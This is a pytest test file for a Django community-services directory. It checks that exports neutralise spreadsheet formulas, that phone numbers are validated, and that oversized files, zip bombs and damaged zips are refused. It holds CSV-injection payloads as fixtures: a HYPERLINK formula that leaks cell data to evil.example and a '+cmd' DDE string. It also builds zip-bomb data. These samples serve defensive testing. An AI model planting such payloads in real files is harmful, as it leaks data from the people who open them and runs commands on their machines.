"""Issue 10 §4 and §5: uploads stop at their limits with a clear message (no 500, nothing left in
the temporary folder), large imports run in the task worker with progress, and no export of any
kind carries a spreadsheet formula."""

import csv
import io
import json
import os
import tempfile
import time
import unicodedata
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from sasaeai.core import spreadsheets
from sasaeai.core.spreadsheets import FORMULA_START, safe_cell, unescape_cell
from sasaeai.directory import imports, template
from sasaeai.directory.models import ImportJob, Location, Organization, Service
from sasaeai.tenancy.models import Role

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"クリック")'
FORMULAS = [EVIL, "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1+1", "＠x"]


def starts_like_formula(value) -> bool:
    if not isinstance(value, str) or not value:
        return False
    return unicodedata.normalize("NFKC", value[0])[:1] in FORMULA_START


# --- §5 the shared module ----------------------------------------------------------------------

@pytest.mark.parametrize("value", FORMULAS)
def test_safe_cell_neutralises_formula_starts(value):
    assert safe_cell(value) == "'" + value
    assert unescape_cell(safe_cell(value)) == value


def test_safe_cell_keeps_numbers_and_plain_text():
    assert safe_cell("-12.5") == "-12.5" and safe_cell(3) == 3 and safe_cell(None) == ""
    assert safe_cell("いきいき体操") == "いきいき体操" and safe_cell("'quoted") == "'quoted"


@given(st.text(max_size=40))
def test_safe_cell_output_never_starts_like_a_formula(text):
    out = safe_cell(text)
    assert not starts_like_formula(out) or spreadsheets._NUMBER.match(out)
    assert unescape_cell(out) == text or text.startswith("'")


def test_write_xlsx_rows_never_writes_a_formula():
    book = Workbook()
    spreadsheets.write_xlsx_rows(book.active, [FORMULAS, [1, 2.5, "ok\x01"]])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert not any(starts_like_formula(c.value) for c in cells)
    assert [c.value for c in cells[len(FORMULAS):len(FORMULAS) + 3]] == [1, 2.5, "ok"]


# --- §5 every export -----------------------------------------------------------------------------

def _poison(small_dir):
    """Formula-like text in every text field of the public resource (bypassing validation, as
    data imported before the fix would be)."""
    service = small_dir["public"]
    org = Organization.objects.create(municipality=small_dir["m"], name=EVIL)
    Service.objects.filter(pk=service.pk).update(
        name=EVIL, name_kana="=1+1", description="+cmd|' /C calc'!A0", contact_name="@SUM(1)", contact_phone="=1+1",
        contact_email="-2+3@example.test", tags=["=1+1"], organization=org)
    loc = Location.objects.create(municipality=small_dir["m"], name="＝1+1", address="=A1", postal_code="-1+1",
                                  lat=35.66, lon=139.33)
    Service.objects.filter(pk=service.pk).update(location=loc)


def _csv_cells(data: bytes, encoding: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode(encoding))) for c in row]


def test_no_export_carries_a_formula(small_dir, client_for, make_user):
    from sasaeai.safety.models import AccessLog

    _poison(small_dir)
    m = small_dir["m"]
    client = client_for(small_dir["coordinator"])
    seen = {}
    for what, encoding in (("template.csv", "utf-8-sig"), ("template-sjis.csv", "cp932")):
        cells = _csv_cells(client.get(f"/directory/exchange/{what}", {"m": m.pk}).content, encoding)
        assert not [c for c in cells if starts_like_formula(c)], what
        seen[what] = cells
    assert "'" + EVIL in seen["template.csv"] and "'=1+1" in seen["template.csv"]
    book = load_workbook(io.BytesIO(client.get("/directory/exchange/template.xlsx", {"m": m.pk}).content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert not [c.value for c in cells if starts_like_formula(c.value)]
    assert "'" + EVIL in [c.value for c in cells]
    archive = zipfile.ZipFile(io.BytesIO(client.get("/directory/exchange/hsds.zip", {"m": m.pk, "format": "csv"}).content))
    hsds_cells = []
    for name in archive.namelist():
        if name.endswith(".csv"):
            hsds_cells += _csv_cells(archive.read(name), "utf-8")
    assert "'" + EVIL in hsds_cells
    assert not [c for c in hsds_cells if starts_like_formula(c)]
    # The access-log CSV (operators and municipal administrators).
    admin = make_user(Role.MUNICIPAL_ADMIN, m)
    AccessLog.objects.create(actor=admin, actor_roles="=1+1", resident_id=1, municipality_id=m.pk, fields=["=1+1"], purpose="=cmd",
                             path='=HYPERLINK("http://evil.example")', ip_prefix="@x")
    response = client_for(admin).get("/safety/access-log/export.csv")
    assert response.status_code == 200
    log_cells = _csv_cells(b"".join(response.streaming_content), "utf-8")
    assert "'=cmd" in log_cells
    assert not [c for c in log_cells if starts_like_formula(c)]


def test_export_then_import_keeps_the_text(small_dir, client_for):
    """The apostrophe is the export's escape: reading the file back gives the original text."""
    Service.objects.filter(pk=small_dir["public"].pk).update(description=EVIL)
    data = client_for(small_dir["coordinator"]).get("/directory/exchange/template.csv", {"m": small_dir["m"].pk}).content
    rows, errors = template.read_rows(data, "t.csv")
    assert not errors and EVIL in [r["説明"] for r in rows]


# --- §5 import: phone numbers are phone numbers ---------------------------------------------------

def _upload(client, m, name, data, kind="template", **extra):
    return client.post("/directory/exchange/", {"m": m.pk, "kind": kind, "encoding": "auto",
                                                "file": SimpleUploadedFile(name, data), **extra})


def test_import_validates_phone_numbers_and_keeps_other_text(small_dir, client_for):
    client = client_for(small_dir["coordinator"])
    head = "名称,分類,地区,説明,電話\n"
    bad = head + "電話が式,体操・運動,地区1,説明,=1+1\n" + "式の説明,体操・運動,地区1,\"=1+1\",042-600-1234\n"
    html = _upload(client, small_dir["m"], "p.csv", bad.encode()).content.decode()
    assert 'id="import-errors"' in html and "<td>2</td><td>電話</td>" in html
    assert not Service.objects.filter(name__in=["電話が式", "式の説明"]).exists()
    good = head + "国際表記,体操・運動,地区1,,+81-42-600-1234\n" + "式の説明,体操・運動,地区1,\"=1+1\",(042) 600-1234\n"
    _upload(client, small_dir["m"], "p.csv", good.encode())
    assert Service.objects.get(name="式の説明").description == "=1+1"
    assert Service.objects.get(name="国際表記").contact_phone == "+81-42-600-1234"


def test_suggestion_form_checks_the_phone_number(small_dir):
    from sasaeai.directory.forms import SuggestionForm

    form = SuggestionForm({"name": "x", "category": "exercise", "area": small_dir["a1"].pk, "contact_phone": "=1+1"},
                          areas=small_dir["a1"].__class__.objects.filter(pk=small_dir["a1"].pk))
    assert not form.is_valid() and "contact_phone" in form.errors


@pytest.mark.parametrize("phone", ["=1+1", "042-600-1234=", "81+42", "+82-2-123-4567", "電話", "0426001234567"])
def test_contact_phone_validator_refuses(phone):
    from django.core.exceptions import ValidationError

    from sasaeai.directory.models import validate_contact_phone

    with pytest.raises(ValidationError):
        validate_contact_phone(phone)


# --- §4 hostile uploads ------------------------------------------------------------------------------

@pytest.fixture
def clean_tmp(tmp_path, monkeypatch):
    """The temporary folder is a fresh one; the test asserts it is empty after every upload."""
    folder = tmp_path / "tmp"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def _assert_clean(folder):
    assert os.listdir(folder) == []


def _error_text(response) -> str:
    assert response.status_code == 200
    return response.content.decode()


def test_csv_cell_of_131073_characters_is_a_row_error(small_dir, client_for, clean_tmp):
    text = "名称,分類,地区,説明\n" + "長い,体操・運動,地区1," + "あ" * 131_073 + "\n"
    html = _error_text(_upload(client_for(small_dir["coordinator"]), small_dir["m"], "long.csv", text.encode()))
    assert 'id="import-errors"' in html and "32,767" in html and "<td>2</td>" in html
    assert not Service.objects.filter(name="長い").exists()
    _assert_clean(clean_tmp)


def _xlsx(rows: int) -> bytes:
    book = Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(["名称", "分類", "地区"])
    for i in range(rows):
        sheet.append([f"資源{i}", "体操・運動", "地区1"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def test_xlsx_of_50000_rows_stops_at_the_row_limit(small_dir, client_for, clean_tmp):
    data = _xlsx(50_000)
    started = time.monotonic()
    rows, errors = template.read_rows(data, "big.xlsx")
    elapsed = time.monotonic() - started
    assert len(rows) == template.MAX_ROWS and errors[-1].row == template.MAX_ROWS + 2
    assert elapsed < 10, elapsed  # reading stops at the limit (the old code read all 50,000 rows)
    client = client_for(small_dir["coordinator"])
    html = _error_text(_upload(client, small_dir["m"], "big.xlsx", data))  # refused at once: nothing to import
    assert 'id="import-errors"' in html and f"<td>{template.MAX_ROWS + 2}</td>" in html
    assert not ImportJob.objects.exists()
    # Skipping invalid rows: the 5,000 rows within the limit go to the task worker, not the request.
    response = _upload(client, small_dir["m"], "big.xlsx", data, skip_invalid="on")
    assert response.status_code == 302 and ImportJob.objects.get().rows_total == template.MAX_ROWS
    assert not Service.objects.filter(name__startswith="資源").exists()
    _assert_clean(clean_tmp)


def _zip(entries: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression, compresslevel=9) as zf:
        for name, data in entries.items():
            zf.writestr(name, data)
    return out.getvalue()


def _bomb_sheet(size: int) -> bytes:
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    return b"<worksheet><sheetData>" + row * (size // len(row)) + b"</sheetData></worksheet>"


@pytest.mark.parametrize("size,code", [(60 * 1024 * 1024, ("larger than 50 MB", "50 MB を超えます")),
                                       (5 * 1024 * 1024, ("compressed suspiciously", "不自然に強く圧縮"))])
def test_xlsx_zip_bomb_refused_from_the_directory(small_dir, client_for, clean_tmp, size, code, monkeypatch):
    data = _zip({"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": _bomb_sheet(size)})
    assert len(data) < 300 * 1024
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "open", lambda *a, **k: opened.append(a) or 1 / 0)
    html = _error_text(_upload(client_for(small_dir["coordinator"]), small_dir["m"], "bomb.xlsx", data))
    assert any(c in html for c in code) and not opened  # refused before any member was decompressed
    _assert_clean(clean_tmp)


def _hsds_zip(client, m) -> bytes:
    return client.get("/directory/exchange/hsds.zip", {"m": m.pk}).content


def _stored(data: bytes) -> bytes:
    zf = zipfile.ZipFile(io.BytesIO(data))
    return _zip({n: zf.read(n) for n in zf.namelist()}, zipfile.ZIP_STORED)


def test_hsds_zip_with_bad_crc_or_mismatched_name_is_refused(small_dir, client_for, clean_tmp):
    client = client_for(small_dir["coordinator"])
    good = _stored(_hsds_zip(client, small_dir["m"]))
    body = good.index(b'"name"')  # inside services.json's (stored) data
    bad_crc = good[:body] + b"'" + good[body + 1:]
    header = good.index(b"services.json")  # the first occurrence is the local header
    bad_name = good[:header] + b"servicez.json" + good[header + len("services.json"):]
    for data in (bad_crc, bad_name, b"PK\x03\x04 not really a zip", b"plain text"):
        html = _error_text(_upload(client, small_dir["m"], "h.zip", data, kind="hsds"))
        assert "errorlist" in html and ("damaged" in html or "壊れて" in html), data[:20]
        _assert_clean(clean_tmp)


def test_hsds_upload_leaves_no_folder_behind(small_dir, client_for, clean_tmp):
    client = client_for(small_dir["coordinator"])
    data = _hsds_zip(client, small_dir["m"])
    response = _upload(client, small_dir["m"], "h.zip", data, kind="hsds", skip_invalid="on")
    assert response.status_code == 200 and "errorlist" not in response.content.decode()
    _assert_clean(clean_tmp)
    # The command-line reader cleans up too.
    from sasaeai.directory import hsds

    path = clean_tmp.parent / "h.zip"
    path.write_bytes(data)
    docs, _errors, _source = hsds.read_path(path)
    assert docs["services"]
    _assert_clean(clean_tmp)


def test_zip_limits_on_entry_count():
    from django.core.exceptions import ValidationError

    data = _zip({f"f{i}.json": b"[]" for i in range(spreadsheets.MAX_ENTRIES + 1)})
    with pytest.raises(ValidationError) as exc:
        spreadsheets.inspect_zip(data)
    assert exc.value.code == "zip_entries"


# --- §4 large imports in the background ----------------------------------------------------------------

@pytest.mark.django_db(transaction=True)  # the worker closes its connection
def test_large_import_runs_as_a_background_job(small_dir, client_for, monkeypatch, clean_tmp):
    monkeypatch.setattr(imports, "BACKGROUND_ROWS", 5)
    client = client_for(small_dir["coordinator"])
    text = "名称,分類,地区\n" + "".join(f"大量{i},体操・運動,地区1\n" for i in range(12))
    response = _upload(client, small_dir["m"], "many.csv", text.encode())
    assert response.status_code == 302
    job = ImportJob.objects.get()
    assert response.url == f"/directory/exchange/jobs/{job.pk}/"
    assert not Service.objects.filter(name__startswith="大量").exists()  # not inside the request
    page = client.get(response.url).content.decode()
    assert 'http-equiv="refresh"' in page and "many.csv" in page
    from django.core.management import call_command

    call_command("db_worker", "--batch", "--no-startup-delay", "--no-reload", verbosity=0)
    job.refresh_from_db()
    assert job.state == ImportJob.State.DONE and (job.created, job.rows_done, job.rows_total) == (12, 12, 12)
    assert bytes(job.data) == b""
    assert Service.objects.filter(name__startswith="大量").count() == 12
    page = client.get(response.url).content.decode()
    assert 'http-equiv="refresh"' not in page and "12" in page
    _assert_clean(clean_tmp)


def test_background_job_with_row_errors_and_unexpected_failure(small_dir, make_user, client_for, monkeypatch,
                                                                make_municipality):
    monkeypatch.setattr(imports, "BACKGROUND_ROWS", 1)
    client = client_for(small_dir["coordinator"])
    text = "名称,分類,地区,電話\n良い,体操・運動,地区1,\n悪い,体操・運動,地区1,=1+1\n"
    _upload(client, small_dir["m"], "e.csv", text.encode())
    job = ImportJob.objects.get()
    assert imports.run_job(job.pk) == ImportJob.State.REFUSED
    job.refresh_from_db()
    assert job.errors[0]["row"] == 3 and job.errors[0]["column"] == "電話"
    page = client.get(f"/directory/exchange/jobs/{job.pk}/").content.decode()
    assert "<td>3</td>" in page
    # Unexpected errors end the job as failed with a message, not a stuck job.
    job2 = imports.start_job(municipality=small_dir["m"], by=small_dir["coordinator"], kind="template",
                             filename="x.csv", data=text.encode())
    monkeypatch.setattr(template, "import_rows", lambda *a, **k: 1 / 0)
    assert imports.run_job(job2.pk) == ImportJob.State.FAILED
    # Another municipality's coordinator: 404.
    other = make_municipality(n_areas=1)
    outsider = make_user(Role.COORDINATOR_L1, other)
    assert client_for(outsider).get(f"/directory/exchange/jobs/{job.pk}/").status_code == 404
    assert json.dumps(job.errors)


def test_hsds_csv_with_an_oversized_cell_is_refused(small_dir, client_for, clean_tmp):
    data = _zip({"services.csv": ("id,name,description\nx,長い," + "あ" * 131_073 + "\n").encode()})
    html = _error_text(_upload(client_for(small_dir["coordinator"]), small_dir["m"], "h.zip", data, kind="hsds"))
    assert "errorlist" in html and "32,767" in html
    _assert_clean(clean_tmp)
